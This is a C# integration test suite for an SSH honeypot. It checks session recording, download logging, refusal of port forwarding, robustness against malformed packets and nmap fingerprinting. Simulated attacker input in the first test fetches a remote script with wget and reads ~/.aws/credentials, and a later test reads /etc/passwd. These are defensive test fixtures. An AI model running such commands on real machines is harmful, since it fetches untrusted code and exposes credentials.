using System.Net.Sockets;
using System.Text.Json;

namespace Decnet.Tests.Honeypots.Ssh;

[Trait("Category", "Integration")]
public sealed class SshSessionTests
{
    [Fact]
    public async Task Interactive_pty_session_is_recorded_as_asciicast_and_downloads_are_logged_not_fetched()
    {
        Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
        await using var host = await SshTestHost.StartAsync();

        // -tt forces a pty although stdin is a pipe: the server echoes and prints prompts.
        var result = await host.SshAsync("admin", null, "uname -a\nwget http://203.0.113.9/x.sh -O /tmp/x.sh\ncat ~/.aws/credentials | grep aws_access\nexit\n", "root", "-tt");

        Assert.True(result.ExitCode == 0, result.Stderr);
        Assert.Contains("root@srv-files-42:~# ", result.Stdout);
        Assert.Contains("Linux srv-files-42 6.1.0-21-amd64", result.Stdout);
        Assert.Contains("aws_access_key_id = AKIA", result.Stdout);
        Assert.Contains("logout", result.Stdout);
        var download = await host.Sink.WaitForAsync("download_attempt");
        Assert.Equal("http://203.0.113.9/x.sh", download.Field("url"));
        Assert.Equal("wget", download.Field("tool"));

        var recorded = await host.Sink.WaitForAsync("session_recorded");
        var path = recorded.Field("path")!;
        Assert.StartsWith(Path.Combine(host.StateDirectory, "recordings"), path);
        var lines = File.ReadAllLines(path);
        using var header = JsonDocument.Parse(lines[0]);
        Assert.Equal(2, header.RootElement.GetProperty("version").GetInt32());
        Assert.True(header.RootElement.GetProperty("width").GetInt32() > 0);
        Assert.True(header.RootElement.TryGetProperty("timestamp", out _));
        Assert.Contains(lines.Skip(1), l => l.Contains("\"o\"", StringComparison.Ordinal) && l.Contains("srv-files-42", StringComparison.Ordinal));
        Assert.Contains(lines.Skip(1), l => l.Contains("\"i\"", StringComparison.Ordinal) && l.Contains("uname", StringComparison.Ordinal));
        Assert.Equal(new FileInfo(path).Length.ToString(System.Globalization.CultureInfo.InvariantCulture), recorded.Field("bytes"));
    }

    [Fact]
    public async Task Recording_stops_at_its_size_bound_and_says_so()
    {
        Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
        await using var host = await SshTestHost.StartAsync(new() { ["max_recording_bytes"] = "2048" });

        var result = await host.SshAsync("admin", null, "cat /proc/cpuinfo\ncat /etc/passwd\nexit\n", "root", "-tt");

        Assert.True(result.ExitCode == 0, result.Stderr);
        var recorded = await host.Sink.WaitForAsync("session_recorded");
        Assert.Equal("true", recorded.Field("truncated"));
        Assert.True(new FileInfo(recorded.Field("path")!).Length <= 2048);
    }

    [Fact]
    public async Task Port_forwarding_attempts_are_refused_and_recorded()
    {
        Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
        await using var host = await SshTestHost.StartAsync();

        var result = await host.SshAsync("admin", null, "", "root", "-W", "10.0.0.5:3306", "-o", "LogLevel=INFO");

        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("administratively prohibited", result.Stderr);
        var attempt = await host.Sink.WaitForAsync("port_forward_attempt");
        Assert.Equal(("direct-tcpip", "10.0.0.5", "3306"), (attempt.Field("request"), attempt.Field("dst_host"), attempt.Field("dst_port")));
    }

    [Fact]
    public async Task Garbage_and_truncated_packets_never_crash_the_service()
    {
        Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
        await using var host = await SshTestHost.StartAsync();
        byte[][] attacks =
        [
            "GET / HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray(),
            [.. "SSH-2.0-bot\r\n"u8, 0xff, 0xff, 0xff, 0xff, 1, 2, 3],
            [.. "SSH-2.0-bot\r\n"u8, 0, 0, 0, 12, 4, 20, 1, 2],
            [.. "SSH-2.0-bot\r\n"u8, 0, 0, 0, 12, 10, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            [.. "SSH-2.0-bot\r\n"u8, 0, 0, 0, 28, 4, 20, .. new byte[16], 0, 0, 0, 200, 1, 2, 3, 4],
            [.. "SSH-1.5-old\r\n"u8],
            System.Security.Cryptography.RandomNumberGenerator.GetBytes(4096),
            [.. "SSH-2.0-bot\r\n"u8, .. System.Security.Cryptography.RandomNumberGenerator.GetBytes(4096)],
        ];
        foreach (var attack in attacks)
        {
            using var client = new TcpClient();
            await client.ConnectAsync("127.0.0.1", host.Port, TestContext.Current.CancellationToken);
            var stream = client.GetStream();
            await stream.WriteAsync(attack, TestContext.Current.CancellationToken);
            var buffer = new byte[8192];
            using var timeout = new CancellationTokenSource(5000);
            try
            {
                while (await stream.ReadAsync(buffer, timeout.Token) > 0)
                {
                }
            }
            catch (Exception error) when (error is IOException or OperationCanceledException)
            {
                // The server may reset the connection; that is the point.
            }
        }

        using (var http = new TcpClient())
        {
            await http.ConnectAsync("127.0.0.1", host.Port, TestContext.Current.CancellationToken);
            await http.GetStream().WriteAsync("GET / HTTP/1.0\r\n\r\n"u8.ToArray(), TestContext.Current.CancellationToken);
            using var reader = new StreamReader(http.GetStream());
            Assert.Equal("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", await reader.ReadLineAsync(TestContext.Current.CancellationToken));
            Assert.Equal("Invalid SSH identification string.", await reader.ReadLineAsync(TestContext.Current.CancellationToken));
        }

        var result = await host.SshAsync("admin", "echo still-alive");

        Assert.Equal("still-alive\n", result.Stdout);
        Assert.Empty(host.Errors);
    }

    [Fact]
    public async Task Nmap_service_detection_identifies_openssh()
    {
        Assert.True(ClientProcess.Exists("nmap"), "nmap is not installed (apt-get install nmap)");
        await using var host = await SshTestHost.StartAsync();

        var result = await ClientProcess.RunAsync("nmap", ["-sV", "-Pn", "-n", "-p", host.Port.ToString(System.Globalization.CultureInfo.InvariantCulture), "127.0.0.1"], timeoutMs: 180_000);

        Assert.True(result.ExitCode == 0, result.Stderr);
        Assert.Matches(@"open\s+ssh\s+OpenSSH 9\.2p1 Debian 2\+deb12u10", result.Stdout);
        Assert.Empty(host.Errors);
    }
}
